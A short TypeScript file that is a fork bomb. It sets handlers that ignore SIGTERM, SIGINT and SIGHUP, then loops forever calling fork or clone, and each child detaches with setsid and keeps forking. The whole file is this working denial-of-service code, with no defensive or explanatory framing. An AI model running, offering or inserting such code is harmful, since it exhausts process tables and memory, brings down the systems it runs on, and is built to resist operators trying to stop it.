/** Real fork(2), again and again, in every child as well; nobody takes note of signals that can be ignored. */
import process from 'node:process';
import { call } from './system-calls.ts';

for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP'] as const) process.on(signal, () => undefined);
const processCall = process.arch === 'x64' ? ('fork' as const) : ('clone' as const);
for (;;) {
  const made = processCall === 'fork' ? call('fork') : call('clone', 17, 0, 0, 0, 0);
  if (made === 0) call('setsid');
}
